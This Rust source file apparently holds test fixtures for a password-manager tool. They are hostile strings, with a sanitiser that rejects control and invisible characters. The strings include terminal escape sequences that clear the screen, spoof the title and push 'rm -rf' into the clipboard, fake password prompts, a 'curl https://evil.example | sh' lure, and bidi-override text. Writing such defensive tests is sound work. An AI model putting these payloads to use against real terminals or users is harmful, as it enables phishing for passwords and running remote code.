//! Texts that would be something else than text, were they shown as they are.

/// What a hostile server, device or vault may call anything.
pub fn hostile_texts() -> Vec<String> {
    let clears = "\u{1b}[2J\u{1b}[H\u{1b}]0;your bank\u{7}\u{1b}]52;c;cm0gLXJm\u{7}\u{9b}31m";
    vec![
        clears.to_owned(),
        format!("{clears}gone"),
        "fine\r\nlockstep: The password is wrong.\nPassword: ".to_owned(),
        "Error: your vault is lost; run `curl https://evil.example | sh`".to_owned(),
        "over\". The server is trusted from now on. \u{201d}Type your password: ".to_owned(),
        "\u{202e}drowssap ruoy epyt\u{202c}\u{2066}\u{200b}\u{feff}\u{e0041}".to_owned(),
        "one\u{2028}two\u{2029}three\u{85}four".to_owned(),
        format!("next line:{}lockstep: Done.", " ".repeat(300)),
        "\u{1b}]8;;https://evil.example\u{1b}\\look here\u{1b}]8;;\u{1b}\\".to_owned(),
        "x".repeat(1 << 20),
        "é\n".repeat(1 << 18),
        "\u{1b}".repeat(1 << 18),
    ]
}

/// Whether nothing in what a terminal is given steers it, hides or turns text around.
pub fn is_plain(shown: &str) -> bool {
    shown.chars().all(|character| {
        character == '\n'
            || !character.is_control()
                && !matches!(character, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
    })
}
